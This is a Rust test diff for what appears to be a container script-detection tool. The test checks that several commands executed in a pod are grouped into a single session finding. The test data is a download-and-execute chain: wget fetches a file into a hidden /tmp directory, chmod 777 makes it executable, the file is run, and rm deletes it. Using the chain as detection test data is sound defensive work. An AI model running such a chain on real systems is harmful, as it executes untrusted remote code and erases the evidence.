@@ -277,3 +277,34 @@ fn a_finding_says_whether_its_script_was_in_the_image_or_written_since() {
         assert_eq!(property(finding, "Script_Provenance"), provenance, "{finding:#}");
     }
 }
+
+#[test]
+fn what_is_executed_in_a_container_by_and_by_is_one_session() {
+    let containerd = Containerd::start(&images()).expect("containerd");
+    let node = node(&containerd, &[]);
+    let pod = containerd.pod("shop", "web").expect("a pod");
+    let run = |name| {
+        let plan = Plan { name, image: SHELL, ..Plan::default() };
+        containerd.run(&pod, &plan).expect("a container")
+    };
+    let (attacked, other) = (run("app"), run("other"));
+    // Neither these programs nor these files are there. Each scores low by itself.
+    let steps = [
+        "wget -q -O /tmp/.scriptwatch/a http://127.0.0.1:9/a",
+        "chmod 777 /tmp/.scriptwatch/a",
+        "/tmp/.scriptwatch/a",
+        "rm -f /tmp/.scriptwatch/a",
+    ];
+    for (number, step) in steps.iter().enumerate() {
+        containerd.exec(&attacked, &["/bin/bash", "-c", step]).expect("an exec");
+        // Half of them in another container are nothing.
+        if number % 2 == 0 {
+            containerd.exec(&other, &["/bin/bash", "-c", step]).expect("an exec");
+        }
+    }
+    let text = steps.map(|step| format!("{step}\n")).concat();
+    let findings = node.wait_for(|all| all.iter().any(|finding| script(finding) == text)).expect("a finding");
+    assert_eq!(findings.len(), 1, "{findings:#?}");
+    assert_eq!(property(&findings[0], "Script_Origin"), "session");
+    assert_eq!(who(&findings[0]), format!("shop/web app {SHELL}"));
+}
